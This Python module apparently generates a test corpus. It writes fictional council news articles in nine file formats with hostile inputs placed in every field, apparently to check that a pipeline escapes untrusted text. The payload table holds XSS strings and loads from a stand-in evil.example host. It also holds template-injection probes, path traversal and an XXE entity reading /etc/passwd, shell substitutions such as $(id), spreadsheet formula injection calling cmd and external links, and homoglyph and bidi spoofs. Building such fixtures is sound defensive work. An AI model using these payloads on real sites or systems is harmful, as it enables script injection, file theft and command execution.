"""What strangers may write into an article, as one table, and a corpus that has it in every field.

SCRIPTS × AROUND      <script>…</script> after "> or </title> or ]]> or <!-- …
the other rows        templates, Markdown, links, directions of writing, look-alikes, paths, formulas
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Callable, Iterator, Sequence
from email.message import EmailMessage
from html import escape
from itertools import product
from pathlib import Path

__all__ = ["ATTACKS", "put"]

_SCRIPTS = (
    *(
        "<script>window.hit=1</script>",
        "<ScRiPt/x>window.hit=1</sCrIpT >",
        "<script src=//evil.example/a.js>",
    ),
    *("<img src=x onerror=window.hit=1>", "<img src=//evil.example/a.png>", "<image href=x onerror=hit=1>"),
    *(
        "<svg/onload=window.hit=1>",
        "<svg><script>window.hit=1</script>",
        "<svg><use href='//evil.example/#a'/>",
    ),
    *(
        "<math><mi xlink:href='javascript:hit=1'>",
        "<iframe srcdoc='<script>top.hit=1</script>'>",
        "<object data=x>",
    ),
    *(
        "<embed src=//evil.example>",
        "<video><source onerror=window.hit=1>",
        "<audio src=x onerror=window.hit=1>",
    ),
    *(
        "<body onload=window.hit=1>",
        "<input autofocus onfocus=window.hit=1>",
        "<details open ontoggle=window.hit=1>",
    ),
    *(
        "<marquee onstart=window.hit=1>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;//e.x'>",
    ),
    *("<link rel=stylesheet href=//evil.example/a.css>", "<style>@import '//evil.example/a.css';</style>"),
    *(
        "<form action=//evil.example><button autofocus>",
        "<a href=javascript:window.hit=1>",
        "<x style=position:fixed>",
    ),
    *(
        "<template><script>window.hit=1</script></template>",
        "<noscript><p title='</noscript><img onerror=hit=1>'>",
    ),
    *(
        "<!--><script>window.hit=1</script>",
        "<![CDATA[<script>window.hit=1</script>]]>",
        "<?xml-stylesheet href='x'?>",
    ),
    *(
        "onmouseover=window.hit=1 x=",
        "&lt;script&gt;window.hit=1&lt;/script&gt;",
        "&#60;script&#62;window.hit=1&#60;",
    ),
    *(
        "\\u003cscript\\u003ewindow.hit=1",
        "%3Cscript%3Ewindow.hit=1%3C/script%3E",
        "＜script＞window.hit=1＜/script＞",
    ),
)
_AROUND = (
    *(
        "{}",
        '">{}',
        "'>{}",
        "`>{}",
        "</title>{}",
        "</script>{}",
        "</style>{}",
        "</textarea>{}",
        "</svg>{}",
        "-->{}",
    ),
    *(
        "]]>{}",
        '" x="{}',
        "' x='{}",
        "</p></div></main>{}",
        "<!--{}",
        "<x {}",
        "<{}",
        "\\'{}",
        "${{{}}}",
        "\u2028{}",
    ),
    *("--!>{}", "</noscript>{}", "</template>{}", "{{{{{}}}}}"),
)
_OTHERS = {
    "template": (
        "{{ 7*7 }}",
        "{% include 'x' %}",
        "{# x",
        "{{ self.__init__ }}",
        "${7*7}",
        "<%= 7 %>",
        "#{7}",
        "{0.x}",
    ),
    "markdown": (
        *(
            "[x](javascript:hit=1)",
            "![x](//evil.example/a.png)",
            "<javascript:hit=1>",
            "[x]: data:text/html,x",
        ),
        *(
            "```html\n<script>",
            "# x\n===",
            "| a | b |\n|---|---|",
            "[x](<//evil.example>)",
            "`<script>`",
            "&lbrace;",
        ),
    ),
    "link": (
        *(
            f"{scheme}{rest}"
            for scheme in (
                "javascript:",
                "JaVaScRiPt:",
                "java\tscript:",
                "\x01javascript:",
                "data:text/html,",
                "vbscript:",
            )
            for rest in ("hit=1", "//x%0ahit=1", "<script>window.hit=1</script>", "alert(1)//https://x")
        ),
        *(
            "//evil.example",
            "\\\\evil.example",
            "http://a@evil.example",
            "https://[::1",
            "http://x:99999999/",
        ),
    ),
    "direction": tuple(
        f"{sign}moc.live{sign}" for sign in "\u202e\u202d\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
    ),
    "hidden": tuple(
        f"Ad{sign}a"
        for sign in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u0000\u001b\u009b\u2029\ufff9\U000e0041"
    ),
    "alike": (
        "Reutеrs",
        "Аssociated Рress",
        "ｒeuters",
        "ⓇⒺuters",
        "Ⅰ23",
        "①②",
        "２0２5",
        "٣٤",
        "ẞß",
        "ﬁre",
        "İi",
        "a" + "\u0301" * 300,
    ),
    "path": (
        *(
            "../../../etc/passwd",
            "..\\..\\x",
            "/etc/passwd",
            "C:\\x",
            "\\\\host\\x",
            "a/../../b",
            "....//x",
            "%2e%2e/x",
        ),
        *(
            "con",
            "NUL.txt",
            "aux",
            "com1.html",
            "LPT9",
            "index",
            "404",
            "assets/style.css",
            ".",
            "..",
            "x.",
            "x ",
            "~",
        ),
        *(
            "a:b",
            "a?b",
            "a*b",
            "a|b",
            "a#b",
            "a%00b",
            "-rf",
            "$HOME",
            "`id`",
            "$(id)",
            "x" * 300,
            "é" * 200,
            ".git",
        ),
    ),
    "formula": tuple(
        f"{sign}{call}"
        for sign in ("=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠")
        for call in ('HYPERLINK("//e.x")', "cmd|'/C calc'!A0", "1+1", "IMPORTXML(//e.x)")
    ),
    "entity": (
        "&x;",
        "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
        "<!DOCTYPE x>",
        "&#0;",
        "&#xD800;",
        "&amp;amp;",
        "%x;",
    ),
    "text": (
        '"' * 50,
        "(" * 50,
        "“" * 50,
        "said " * 50,
        "Inc. " * 50,
        "::notice::x",
        "%0A::error::x",
        "\\N",
        "NaN",
        "null",
    ),
}


def _attacks() -> Iterator[str]:
    for around, script in product(_AROUND, _SCRIPTS):
        yield around.format(script)
    for row in _OTHERS.values():
        yield from row


ATTACKS = tuple(dict.fromkeys(_attacks()))

_THINGS = (
    "baths",
    "bridge",
    "school",
    "harbor",
    "museum",
    "tunnel",
    "market",
    "theatre",
    "hospital",
    "stadium",
)
_PLACES = (
    "Harrow",
    "Lindholm",
    "Orrest",
    "Kelby",
    "Sandwick",
    "Marden",
    "Tolber",
    "Wickham",
    "Aldous",
    "Brenn",
)


def _articles(attacks: Sequence[str], on_each: int = 60) -> Iterator[dict[str, str]]:
    """Articles of like stories: `on_each` attacks in the text of each one, and one in every other field."""
    for number, at in enumerate(range(0, len(attacks), on_each)):
        own = attacks[at : at + on_each]
        thing, place = _THINGS[number % 10], _PLACES[number % 10]
        pick = [own[(number + each) % len(own)] for each in range(5)]
        told = "\n\n".join(
            f"Witness number {each} at the {place} {thing} {attack} told {place} police on Friday about it. "
            f"“The {place} {thing} {attack} was never safe,” said {place} councillor Ada Wren {each}."
            for each, attack in enumerate(own)
        )
        yield {
            "id": pick[0],
            "title": f"Council closes the {place} {thing} {pick[1]} after cracks",
            "source": f"The {place} {pick[2]} News",
            "author": f"Ann {pick[3]} Lee",
            "date": f"2025-04-0{number % 8 + 1} {pick[4]}" if number % 2 else f"2025-04-0{number % 8 + 1}",
            "url": own[number % len(own)] if number % 3 else f"https://{place}.example/{own[-1]}",
            "text": f"The council closed the {thing} on Friday after inspectors found cracks in its roof. "
            f"Engineers said the {thing} would cost {number + 2} million crowns to repair.\n\n{told}",
        }


def _text(row: dict[str, str]) -> str:
    return f"{row['title']}\n\nBy {row['author']}, {row['source']}\n\n{row['date']}\n\n{row['text']}\n"


def _table(row: dict[str, str]) -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerows((row.keys(), row.values()))
    return out.getvalue()


def _page(row: dict[str, str]) -> str:
    """As an honest site would print it: what was escaped once must not be undone."""
    safe = {name: escape(value) for name, value in row.items()}
    linked = json.dumps({"@type": "NewsArticle", "headline": row["title"], "author": {"name": row["author"]}})
    paragraphs = "".join(f"<p>{each}</p>" for each in safe["text"].split("\n\n"))
    return (
        f"<html><head><title>{safe['title']}</title><link rel=canonical href='{safe['url']}'>"
        f"<meta property='og:site_name' content='{safe['source']}'>"
        f"<script type='application/ld+json'>{linked.replace('<', chr(92) + 'u003c')}</script></head>"
        f"<body><article><h1>{safe['title']}</h1>{paragraphs}</article></body></html>"
    )


def _mail(row: dict[str, str]) -> str:
    mail = EmailMessage()
    mail["MIME-Version"] = "1.0"
    mail["Subject"] = " ".join("".join(c for c in row["title"] if c.isprintable()).split())
    mail.set_content(row["text"])
    return mail.as_string()


def _feed(row: dict[str, str]) -> str:
    safe = {
        name: escape("".join(c for c in value if c in "\n\t" or c.isprintable()))
        for name, value in row.items()
    }
    return (
        f"<feed xmlns='http://www.w3.org/2005/Atom'><title>{safe['source']}</title><entry>"
        f"<title>{safe['title']}</title><link href='{safe['url']}'/>"
        f"<author><name>{safe['author']}</name></author><id>{safe['id']}</id><published>{safe['date']}</published>"
        f"<content type='html'>{escape(safe['text'])}</content></entry></feed>"
    )


def _archive(row: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo(f"{row['id']}.txt".replace("\0", "")), _text(row))
        archive.writestr(zipfile.ZipInfo("plain.txt"), _text(row))
    return out.getvalue()


_FORMATS: dict[str, Callable[[dict[str, str]], str | bytes]] = {
    "txt": _text,
    "jsonl": json.dumps,
    "json": lambda row: json.dumps([row]),
    "csv": _table,
    "html": _page,
    "md": lambda row: (
        f"---\ntitle: {row['title']}\nauthor: {row['author']}\nid: {row['id']}\n---\n{row['text']}"
    ),
    "eml": _mail,
    "atom": _feed,
    "zip": _archive,
}


def put(folder: Path, attacks: Sequence[str] = ATTACKS) -> Path:
    """A corpus in `folder` that has the attacks in every field of every format."""
    folder.mkdir()
    formats = list(_FORMATS.items())
    for number, row in enumerate(_articles(attacks)):
        suffix, written = formats[number % len(formats)]
        content = written(row)
        place = folder / f"{number}.{suffix}"
        place.write_bytes(content.encode("utf-8", "surrogatepass") if isinstance(content, str) else content)
    (folder / "<img src=x onerror=window.hit=1>.txt").write_text(
        _text(next(_articles(attacks))), encoding="utf-8"
    )
    (folder / "<svg onload=window.hit=1>.pdf").touch()
    return folder
